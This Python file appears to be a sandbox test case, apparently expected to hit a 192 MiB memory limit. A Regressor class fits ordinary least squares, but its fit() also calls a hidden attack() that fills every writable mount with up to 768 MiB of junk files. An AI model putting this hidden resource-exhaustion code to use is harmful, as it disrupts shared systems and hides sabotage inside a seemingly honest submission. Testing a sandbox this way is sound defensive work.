"""Fills every file system that it may write to, up to four times its memory.

Outcome: memory_limit.
Says: 192 MiB
"""

import os
import time

import numpy as np

ENOUGH_BYTES = 768 << 20


def attack():
    with open("/proc/self/mountinfo") as mounts:
        places = [line.split()[4] for line in mounts]
    filled = 0
    # Where files are meant to be, last.
    for place in sorted(places, key=lambda place: place in ("/tmp", "/dev/shm")):
        if not (os.path.isdir(place) and os.access(place, os.W_OK)):
            continue
        try:
            for number in range(64):
                with open(f"{place}/filled-{number}", "wb", buffering=0) as file:
                    for _ in range(64):
                        filled += file.write(b"x" * (1 << 20))
                if filled > ENOUGH_BYTES:
                    print("BROKEN OUT: holds", filled, "bytes, the last in", place, flush=True)
                    os._exit(0)
        except OSError as error:
            print(place, error.strerror, flush=True)
    time.sleep(1e6)


class Regressor:
    def fit(self, X, y):
        self.coefficients = np.linalg.lstsq(np.c_[X, np.ones(len(X))], y, rcond=None)[0]
        attack()

    def predict(self, X):
        return np.c_[X, np.ones(len(X))] @ self.coefficients
